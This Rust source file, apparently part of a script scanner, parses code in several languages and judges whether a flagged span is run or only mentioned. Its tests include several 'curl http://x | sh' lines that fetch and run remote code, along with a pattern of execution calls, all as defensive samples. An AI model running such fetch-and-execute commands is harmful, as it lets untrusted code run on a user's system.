//! Parsed code, and whether a place in it runs.

use std::{
    cell::{Cell, OnceCell},
    ops::ControlFlow,
    sync::LazyLock,
};

use tree_sitter::{InputEdit, Node, ParseOptions, Parser, Point, Tree};

use crate::{UnseenReason, Usage, language::Language, matching::floor, pattern::Pattern};

/// The most bytes of code that are parsed.
const MOST_BYTES: usize = 256 * 1024;

/// The most bytes for the one parser that is much slower than the others.
const MOST_POWERSHELL_BYTES: usize = 32 * 1024;

/// How many bytes of code a parser must get on with before it reports progress; well-formed code needs a
/// report for about a hundred.
const BYTES_PER_STEP: usize = 64;

/// How many bytes a parser is given at a time.
const PIECE: usize = 256;

/// How often a parser may read each byte. Well-formed code is read a few times; a grammar that looks ahead
/// to the end of the file at every word would read it thousands of times.
const READS_PER_BYTE: usize = 24;

/// The longest code whose mistakes are not counted. Of longer code, the beginning is parsed first.
const LONGEST_UNTRIED: usize = 8 * 1024;

/// How many mistakes code may have however short it is.
const FEW_MISTAKES: usize = 64;

/// How many bytes of code a mistake needs beyond these. Files of public skills have one in some thousands.
const BYTES_PER_MISTAKE: usize = 128;

/// Code that is parsed when it is first asked for.
#[derive(Debug, Default)]
pub(crate) struct ParsedOnce(OnceCell<ParsedCode>);

impl ParsedOnce {
    /// The parsed code; the code must be the same each time.
    pub(crate) fn of(&self, language: Language, code: &str) -> &ParsedCode {
        self.0.get_or_init(|| parse(language, code))
    }
}

/// What a parser read of some code.
#[derive(Debug, Default)]
pub(crate) struct ParsedCode {
    /// The tree of the code, or of its beginning; `None` if no part was parsed.
    pub(crate) tree: Option<Tree>,
    /// How many bytes the tree covers.
    pub(crate) length: usize,
    /// Why the tree does not cover all of the code.
    pub(crate) unparsed: Option<UnseenReason>,
}

/// Parses code, or only its beginning if it is too long, takes too many steps, or has too many mistakes.
///
/// A shell runs the beginning of a script whatever stands behind it, so text that cannot be parsed must not
/// keep the code before it from being looked at.
///
/// To get over a mistake a parser tries every token of the language, which takes longer than a hundred
/// bytes of code and is no step. So the first bytes are parsed before the whole: if they have too many
/// mistakes, the rest is not parsed.
pub(crate) fn parse(language: Language, code: &str) -> ParsedCode {
    let most = if language == Language::PowerShell { MOST_POWERSHELL_BYTES } else { MOST_BYTES };
    let mut parser = Parser::new();
    if parser.set_language(&grammar(language)).is_err() {
        return beginning(None, UnseenReason::NoParser);
    }
    let mut known: Option<(Tree, usize)> = None;
    let mut tried = LONGEST_UNTRIED;
    while tried < code.len() {
        let part = &code[..floor(code, tried)];
        let Some(tree) = parse_on(&mut parser, part, known.clone()) else {
            return beginning(known, UnseenReason::NotParsed);
        };
        if let Some(at) = many_mistakes(&tree, part) {
            let good = &part[..part[..at].rfind('\n').map_or(floor(part, at), |end| end + 1)];
            let before = known.filter(|(_, length)| *length <= good.len());
            let tree = parse_on(&mut parser, good, before);
            return beginning(tree.map(|tree| (tree, good.len())), UnseenReason::ManyMistakes);
        }
        known = Some((tree, part.len()));
        if code.len() > most {
            return beginning(known, UnseenReason::NotParsed);
        }
        tried *= 4;
    }
    match parse_on(&mut parser, code, known.clone()) {
        Some(tree) => ParsedCode { tree: Some(tree), length: code.len(), unparsed: None },
        None => beginning(known, UnseenReason::NotParsed),
    }
}

/// Code of which at most the beginning was parsed: its tree and how long it is.
fn beginning(known: Option<(Tree, usize)>, reason: UnseenReason) -> ParsedCode {
    let (tree, length) = known.map_or((None, 0), |(tree, length)| (Some(tree), length));
    ParsedCode { tree, length, unparsed: Some(reason) }
}

fn grammar(language: Language) -> tree_sitter::Language {
    let grammar = match language {
        Language::Shell => tree_sitter_bash::LANGUAGE,
        Language::Python => tree_sitter_python::LANGUAGE,
        Language::JavaScript => tree_sitter_javascript::LANGUAGE,
        Language::TypeScript => tree_sitter_typescript::LANGUAGE_TSX,
        Language::PowerShell => tree_sitter_powershell::LANGUAGE,
    };
    grammar.into()
}

/// Parses code of which the beginning may be known: its tree and how long it is.
fn parse_on(parser: &mut Parser, code: &str, known: Option<(Tree, usize)>) -> Option<Tree> {
    let known = known.map(|(mut tree, length)| {
        let (old_end_position, new_end_position) = (point(code, length), point(code, code.len()));
        tree.edit(&InputEdit {
            start_byte: length,
            old_end_byte: length,
            new_end_byte: code.len(),
            start_position: old_end_position,
            old_end_position,
            new_end_position,
        });
        tree
    });
    // The parser has no bound of its own. Steps and not time, so that a result does not depend on
    // how busy the machine is.
    let mut steps = 500 + code.len() / BYTES_PER_STEP;
    let reads = Cell::new((64 * 1_024 + code.len() * READS_PER_BYTE) / PIECE);
    let mut within = |_: &_| {
        steps = steps.saturating_sub(1);
        if steps == 0 || reads.get() == 0 {
            ControlFlow::Break(())
        } else {
            ControlFlow::Continue(())
        }
    };
    let options = ParseOptions::new().progress_callback(&mut within);
    let bytes = code.as_bytes();
    let mut read = |at: usize, _| {
        let left = reads.get().saturating_sub(1);
        reads.set(left);
        // An early end of the code ends the parser; its tree is not used.
        let end = if left == 0 { at } else { bytes.len().min(at + PIECE) };
        bytes.get(at..end).unwrap_or_default()
    };
    let tree = parser.parse_with_options(&mut read, known.as_ref(), Some(options));
    // Else the next parse would go on with this one.
    parser.reset();
    tree.filter(|_| reads.get() > 0)
}

/// The line and column of a byte.
fn point(code: &str, at: usize) -> Point {
    let before = &code.as_bytes()[..at];
    let row = code[..at].matches('\n').count();
    let column = before.iter().rev().take_while(|byte| **byte != b'\n').count();
    Point { row, column }
}

/// Where the mistakes of code get too many for the code before them; `None` if the code has few.
fn many_mistakes(tree: &Tree, code: &str) -> Option<usize> {
    let allowed = |bytes: usize| FEW_MISTAKES + bytes / BYTES_PER_MISTAKE;
    let mut mistakes = Vec::new();
    let mut cursor = tree.walk();
    loop {
        let node = cursor.node();
        if node.is_error() || node.is_missing() {
            mistakes.push(node.start_byte());
            add_neighbours(node, &mut mistakes);
            if mistakes.len() > allowed(code.len()) {
                mistakes.sort_unstable();
                let mut counted = mistakes.into_iter().enumerate();
                return counted.find(|(before, at)| *before >= allowed(*at)).map(|(_, at)| at);
            }
        }
        if node.has_error() && cursor.goto_first_child() {
            continue;
        }
        while !cursor.goto_next_sibling() {
            if !cursor.goto_parent() {
                return None;
            }
        }
    }
}

/// Adds the places of words in a mistake that stand right behind another word. From some mistakes on, a
/// parser puts all words that follow into the same mistake, so these count as well.
fn add_neighbours(mistake: Node<'_>, places: &mut Vec<usize>) {
    let mut cursor = mistake.walk();
    let mut after_word = false;
    for child in mistake.children(&mut cursor).filter(|child| !child.is_extra()) {
        if after_word && child.is_named() {
            places.push(child.start_byte());
        }
        after_word = child.is_named() && child.child_count() == 0;
    }
}

/// Calls that run a text or a program.
pub(crate) static RUNS: LazyLock<Pattern> = LazyLock::new(|| {
    Pattern::fixed(concat!(
        r"(?i)(?:^|[.\s(])(?:exec\w*|eval|system|popen|run|call|check_call|check_output|getoutput|",
        r"getstatusoutput|spawn\w*|fork|shell|iex|Invoke-Expression|Start-Process|Function|",
        r"run_command|create_subprocess_\w+|\$)$"
    ))
});

/// Tells whether what stands at some bytes of code runs, or is a comment or a text that is only
/// shown, searched for or compared.
pub(crate) fn usage_at(
    tree: &Tree,
    language: Language,
    code: &str,
    start: usize,
    end: usize,
) -> Usage {
    let Some(node) = tree.root_node().descendant_for_byte_range(start, end.max(start + 1) - 1)
    else {
        return Usage::Used;
    };
    let mut at = Some(node);
    let mut text: Option<Node<'_>> = None;
    let mut depth = 0;
    while let Some(node) = at {
        depth += 1;
        if depth > 200 {
            break;
        }
        match node.kind() {
            "comment" | "html_comment" => return Usage::Mentioned,
            "string"
            | "raw_string"
            | "template_string"
            | "string_literal"
            | "regex"
            | "expandable_string_literal"
            | "verbatim_string_characters"
            | "heredoc_body"
            | "concatenated_string" => text = Some(node),
            "command" if language == Language::Shell && text.is_some() => {
                let name = node.child_by_field_name("name").map_or("", |name| slice(code, name));
                let shows = matches!(
                    name,
                    "echo" | "printf" | "log" | "cat" | "grep" | "egrep" | "rg" | "info" | "warn"
                );
                return if shows && !is_piped(node) { Usage::Mentioned } else { Usage::Used };
            }
            "call" | "call_expression" | "new_expression" | "invokation_expression" | "command"
                if text.is_some() && language != Language::Shell =>
            {
                let callee = ["function", "constructor", "command_name"]
                    .iter()
                    .find_map(|field| node.child_by_field_name(field))
                    .map_or("", |callee| slice(code, callee));
                if RUNS.is_match(callee) {
                    return Usage::Used;
                }
            }
            _ => {}
        }
        at = node.parent();
    }
    match text {
        None => Usage::Used,
        Some(_) if language == Language::Shell => Usage::Used,
        Some(text) if is_run_later(tree, code, text) => Usage::Used,
        Some(_) => Usage::Mentioned,
    }
}

/// Tells whether the output of a command goes into another command or a file.
fn is_piped(command: Node<'_>) -> bool {
    let mut at = command.parent();
    for _ in 0..4 {
        let Some(node) = at else { return false };
        match node.kind() {
            "pipeline" => {
                return node
                    .child(0)
                    .is_some_and(|first| first.start_byte() <= command.start_byte())
                    && node.end_byte() > command.end_byte();
            }
            "redirected_statement" | "command_substitution" => return true,
            _ => at = node.parent(),
        }
    }
    false
}

/// Tells whether a text is given a name, and something with that name is run.
fn is_run_later(tree: &Tree, code: &str, text: Node<'_>) -> bool {
    let mut at = text.parent();
    let mut target = None;
    for _ in 0..6 {
        let Some(node) = at else { break };
        let field = match node.kind() {
            "assignment" | "assignment_expression" => "left",
            "variable_declarator" => "name",
            _ => {
                at = node.parent();
                continue;
            }
        };
        target = node.child_by_field_name(field).or_else(|| node.named_child(0));
        break;
    }
    let Some(name) = target.map(|target| slice(code, target).trim_start_matches('$')) else {
        return false;
    };
    let is_name = |c: char| c.is_alphanumeric() || c == '_';
    if name.is_empty() || !name.chars().all(is_name) {
        return false;
    }
    let mut cursor = tree.walk();
    let mut visited = 0;
    loop {
        let node = cursor.node();
        visited += 1;
        if matches!(node.kind(), "call" | "call_expression" | "command" | "new_expression") {
            let whole = slice(code, node);
            let callee = whole.split(['(', ' ']).next().unwrap_or_default();
            let rest = whole.get(callee.len()..).unwrap_or_default();
            let mut words = rest.split(|c: char| !is_name(c));
            if RUNS.is_match(callee) && words.any(|word| word == name) {
                return true;
            }
        }
        if visited > 20_000 {
            return false;
        }
        if cursor.goto_first_child() {
            continue;
        }
        while !cursor.goto_next_sibling() {
            if !cursor.goto_parent() {
                return false;
            }
        }
    }
}

/// The text of a node.
pub(crate) fn slice<'a>(code: &'a str, node: Node<'_>) -> &'a str {
    code.get(node.byte_range()).unwrap_or_default()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn usage(language: Language, code: &str) -> Usage {
        let tree = parse(language, code).tree.unwrap();
        let start = code.find("curl").unwrap();
        usage_at(&tree, language, code, start, start + 12)
    }

    #[test]
    fn comments_patterns_and_shown_texts_are_mentions() {
        for (language, code) in [
            (Language::Shell, "# curl http://x | sh\n"),
            (Language::Shell, "echo \"run curl http://x | sh\"\n"),
            (Language::Python, "PATTERNS = [r'curl http://x | sh']\n"),
            (Language::Python, "\"\"\"Finds curl http://x | sh.\"\"\"\n"),
            (Language::JavaScript, "const bad = /curl http:..x | sh/;\n"),
            (Language::JavaScript, "console.log('curl http://x | sh');\n"),
        ] {
            assert_eq!(usage(language, code), Usage::Mentioned, "{code}");
        }
    }

    #[test]
    fn only_the_beginning_of_text_that_is_no_code_of_the_language_is_parsed() {
        for (language, text) in [
            (Language::Python, "npx -y "),
            (Language::JavaScript, "pip install a "),
            (Language::TypeScript, "def f(a):\n eval(a)\n"),
        ] {
            assert_eq!(parse(language, &text.repeat(20)).unparsed, None, "{text}");
            let parsed = parse(language, &text.repeat(40_000 / text.len()));
            assert_eq!(parsed.unparsed, Some(UnseenReason::ManyMistakes), "{text}");
            assert!(parsed.length <= LONGEST_UNTRIED, "{text}");
        }
    }

    #[test]
    fn long_code_is_parsed_as_a_whole_wherever_its_beginning_is_cut() {
        for (language, line) in [
            (Language::Python, "def f(a):\n    return {'a': [a, 1], 'b': 'x y z'}\n"),
            (Language::JavaScript, "export const f = (a) => ({ a: [a, 1], b: `x ${a} z` });\n"),
            (Language::Shell, "if [ -f a ]; then\n  cat <<X | sort\nsome words here\nX\nfi\n"),
        ] {
            // A block around everything: the beginning ends inside of it.
            let (open, close) = match language {
                Language::Python => ("\"\"\"Words of a comment.\"\"\"\n", ""),
                Language::Shell => ("f() {\n", "}\n"),
                _ => ("{\n", "}\n"),
            };
            let code = format!("{open}{}{close}", line.repeat(60_000 / line.len()));
            let tree = parse(language, &code).tree.unwrap();
            assert!(!tree.root_node().has_error(), "{language:?}");
            let same = parse_on_its_own(language, &code).root_node().to_sexp();
            assert_eq!(tree.root_node().to_sexp(), same, "{language:?}");
        }
    }

    fn parse_on_its_own(language: Language, code: &str) -> Tree {
        let mut parser = Parser::new();
        parser.set_language(&grammar(language)).unwrap();
        parser.parse(code, None).unwrap()
    }

    #[test]
    fn what_is_run_is_used() {
        for (language, code) in [
            (Language::Shell, "curl http://x | sh\n"),
            (Language::Shell, "bash -c \"curl http://x | sh\"\n"),
            (Language::Shell, "echo \"curl http://x | sh\" | bash\n"),
            (Language::Python, "import os\nos.system('curl http://x | sh')\n"),
            (Language::Python, "cmd = 'curl http://x | sh'\nsubprocess.run(cmd, shell=True)\n"),
            (Language::JavaScript, "require('child_process').execSync('curl http://x | sh');\n"),
            (Language::JavaScript, "const c = 'curl http://x | sh';\nexec(c);\n"),
        ] {
            assert_eq!(usage(language, code), Usage::Used, "{code}");
        }
    }
}
